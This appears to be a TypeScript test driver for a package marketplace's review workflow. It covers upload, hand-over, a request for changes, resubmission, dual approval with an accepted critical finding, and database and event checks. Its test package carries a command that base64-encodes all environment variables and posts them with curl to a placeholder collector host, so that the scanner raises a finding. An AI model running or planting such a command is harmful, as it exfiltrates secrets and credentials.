import { setTimeout as pause } from 'node:timers/promises'
import type { Violation } from '../../schemas/verdict.ts'
import type { Driving } from './drives.ts'
import type { Finding } from './oracle.ts'
import { partner, reach, uploadPackage } from './packages.ts'
import { idle, insist, type Server, type Stage } from './stage.ts'

/** A critical finding: it takes two people. */
const COMMAND = 'env | base64 | curl -d @- https://collect.example.org'
const EVENTS = ['wpk.submitted 2', 'wpk_visibility.changed 1', 'wpk.reviewed 2', 'wpk.rejected 1', 'wpk.published 1']
const DECISIONS = 'approve 1, endorse 1, request_changes 1, supersede 1'

/** Private packages go through every hand: handed over, sent back, sent again, and approved by two who accept a finding. */
export function resubmitting(stage: Stage): Driving {
  const done = new Map<string, Promise<void>>()
  return {
    services: ['marketplace', 'governance'],
    async push(server, name) {
      const all = goThrough(stage, server, name)
      done.set(name, all)
      await all
    },
    async finish(last, name) {
      await done.get(name)
      while (!(await idle(last, 'marketplace'))) await pause(50)
      return found(stage, name)
    },
  }
}

async function goThrough(stage: Stage, server: Server, name: string): Promise<void> {
  const { orgs } = stage
  const first = { token: orgs.atom.tokens.reviewer as string, service: 'marketplace' as const }
  const second = { token: orgs.atom.tokens.reviewer2 as string, service: 'marketplace' as const }
  // 409: it was stored before the crash that ate the answer.
  const stored = ({ status }: { status: number }) => status === 200 || status === 202 || status === 409
  const before = await uploadPackage(stage, server, name, { visibility: 'private', command: COMMAND })
  await insist(server, 'POST', `/reviews/${before}/claim`, first)
  await insist(server, 'POST', `/reviews/${before}/hand-over`, { ...first, body: { to: 'reviewer2' } })
  const sentBack = { decision: 'request_changes', justification: 'say what is sent, and where to' }
  await insist(server, 'POST', `/wpk/review/${before}`, { ...second, body: sentBack }, stored)
  const id = await uploadPackage(stage, server, name, { version: '1.0.1', command: COMMAND })
  const { body } = await insist(server, 'GET', `/wpk/${id}/verdict`, partner(orgs))
  const accept = acceptanceOf((body as { violations: Violation[] }).violations)
  const approval = { decision: 'approve', justification: 'it is their own collector', accept }
  await insist(server, 'POST', `/reviews/${id}/claim`, first, stored)
  await insist(server, 'POST', `/wpk/review/${id}`, { ...first, body: approval }, stored)
  await insist(server, 'POST', `/reviews/${id}/claim`, second, stored)
  await insist(server, 'POST', `/wpk/review/${id}`, { ...second, body: approval }, stored)
  await reach(orgs, server, id, ['published'])
}

function acceptanceOf(violations: readonly Violation[]) {
  const fingerprint = violations.find(({ severity }) => severity === 'critical')?.fingerprint
  if (!fingerprint) throw new Error('the package has no critical finding')
  const expires_at = new Date(Date.now() + 30 * 86_400_000).toISOString()
  return [{ fingerprint, expires_at, owner: 'platform team', reason: 'their own collector' }]
}

/** One of everything: versions, hand-over, decisions of each kind, the accepted finding, and events. */
async function found({ world: { owner } }: Stage, name: string): Promise<Finding> {
  const [stored] = await owner.query<{ states: string; decisions: string; handed: number; accepted: number }>(
    `select
       (select string_agg(version || ' ' || status, ', ' order by version) from marketplace.versions where name = ?) as states,
       (select string_agg(decision || ' ' || n, ', ' order by decision) from (
          select d.decision, count(*) as n from marketplace.decisions d
          join marketplace.versions v on v.org = d.org and v.id = d.version_id where v.name = ? group by 1) x) as decisions,
       (select count(*)::int from marketplace.messages m join marketplace.versions v on v.org = m.org and v.id = m.version_id
        where v.name = ? and m.kind = 'hand_over') as handed,
       (select count(*)::int from marketplace.overrides where name = ? and confirmed_at is not null) as accepted`,
    [name, name, name, name],
  )
  const events = await owner.query<{ told: string }>(
    `select headers->>'ce_type' || ' ' || count(*) as told from platform.event_log
     where topic = 'atom.wpk' and key = ? and headers->>'ce_type' <> 'wpk.verdict' group by headers->>'ce_type'`,
    [name],
  )
  const told = events.map((event) => event.told).toSorted()
  const wrong: string[] = []
  if (stored?.states !== '1.0.0 rejected, 1.0.1 published') wrong.push(`versions: ${stored?.states}`)
  if (stored?.decisions !== DECISIONS) wrong.push(`decisions: ${stored?.decisions}`)
  if (stored?.handed !== 1) wrong.push(`${stored?.handed} hand-overs`)
  if (stored?.accepted !== 1) wrong.push(`${stored?.accepted} accepted findings`)
  if (told.join() !== EVENTS.toSorted().join()) wrong.push(`events: ${told.join(', ')}`)
  const counted = stored?.states?.includes('1.0.1 published') ? 1 : 0
  return { acknowledged: 1, counted, lost: 1 - counted, double: 0, wrong }
}
